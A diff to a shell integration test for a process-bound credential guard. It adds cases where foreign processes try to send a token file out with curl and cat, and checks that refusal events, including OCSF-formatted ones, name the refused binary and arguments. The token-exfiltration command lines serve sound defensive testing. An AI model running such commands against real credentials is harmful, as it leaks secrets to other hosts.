@@ -49,6 +49,7 @@ sib_sh() { (echo "$BASHPID" >"$POD_A/cgroup.procs" && exec bash -c "$1") >"$T/sh
 sib_sh "curl -sS -m 3 -H \"Authorization: Bearer \$(cat $T/tok)\" http://$N/one-liner"
 sib_sh "cat $T/tok | curl -sS -m 3 -H @- http://$N/pipe"
 sib_sh "cp $T/tok $T/copy; curl -sS -m 3 -H @$T/copy http://$N/copy"
+sib_sh "curl -sS -m 3 -H @$T/tok http://$N/at-file"
 [ ! -s "$T/copy" ] || [ "$MODE" = monitor ] || fail "cp copied the token's bytes"
 
 # --- one actor per way in ----------------------------------------------------
@@ -138,6 +139,15 @@ if [ "$MODE" = enforce ]; then
 		echo "$ev" | jq -e --argjson o "$OWNER" '.reason=="foreign_pid" and .credential.bound_process.pid==$o' >/dev/null ||
 			fail "$c's refusal event: $ev"
 	done
+	# the refused one-liners' processes have exited by now: their events
+	# name the binary and the argv all the same
+	for c in cat cp curl; do
+		ev=$(wait_event ".event==\"credential_open_refused\" and .process.comm==\"$c\"")
+		echo "$ev" | jq -e --arg c "$c" --arg tok "$T/tok" '(.process.exe | endswith("/" + $c)) and
+			(.process.args | startswith($c + " ") and contains($tok)) and (.process.started_at | endswith("Z"))' \
+			>/dev/null || fail "$c's refusal does not name its binary and arguments: $ev"
+	done
+	pass "the refused cat, cp and curl -H @TOKEN are named by executable and arguments, after they exited"
 	if [ "$LSM" = 0 ]; then
 		ev=$(wait_event ".event==\"credential_read_refused\" and .process.pid==$(cat $T/s_getfd.pid)")
 		echo "$ev" | jq -e '.access=="read" and .reason=="foreign_pid"' >/dev/null || fail "read refusal: $ev"
@@ -235,3 +245,23 @@ start_agent --mode "$MODE" --file-guard off
 wait_gone "$G2"
 [ "$(ctl status -o json | jq -r '.credential_files')" = unguarded ] || fail "status: $(ctl status -o json | jq -c .credential_files)"
 pass "after SIGTERM the guard stayed; an agent with --file-guard off stopped it (credential_files: unguarded)"
+
+# --- OCSF: the trail as OCSF names the refused process as the actor; an
+# agent with --events-format ocsf writes its stream that way
+SDOWN=$(cat $T/s_down.pid)
+ctl events -o ocsf | jq -e -s --argjson p "$SDOWN" '[.[] | select(.unmapped.event == "credential_open_refused"
+	and .unmapped.process.pid == $p)] | length > 0 and all(.class_uid == 1001 and .actor.process.pid == $p and
+	.disposition_id == 2 and .action_id == 2 and .activity_id == 14 and .metadata.uid == (.unmapped.seq | tostring))' \
+	>/dev/null || fail "the trail as OCSF: $(ctl events -o ocsf | grep -m1 credential_open_refused)"
+pass "procbindctl events -o ocsf: the refusal is File System Activity, Blocked, its actor the refused process"
+stop_agent
+start_agent --mode "$MODE" --events-format ocsf
+actor s_ocsf cgroup:$POD_A pidfile:$T/s_ocsf.pid read:$T/tok sleep:$HOLD
+expect s_ocsf "read:$T/tok" EPERM
+SO=$(cat $T/s_ocsf.pid)
+for _ in $(seq $((100 * SCALE))); do file_has "$OUT" "\"pid\":$SO," && break; sleep 0.05; done
+jq -e -s --argjson p "$SO" '[.[] | select(.class_uid == 1001 and .actor.process.pid == $p)] | length > 0' "$OUT" \
+	>/dev/null || { tail -3 "$OUT"; fail "no OCSF event for the refused read in the stream"; }
+jq -e -s 'all(.metadata.version == "1.3.0" and (.type_uid == .class_uid * 100 + .activity_id))' "$OUT" >/dev/null ||
+	fail "a stream line is not OCSF"
+pass "--events-format ocsf: every stream line is an OCSF event; the refusal names the refused process"
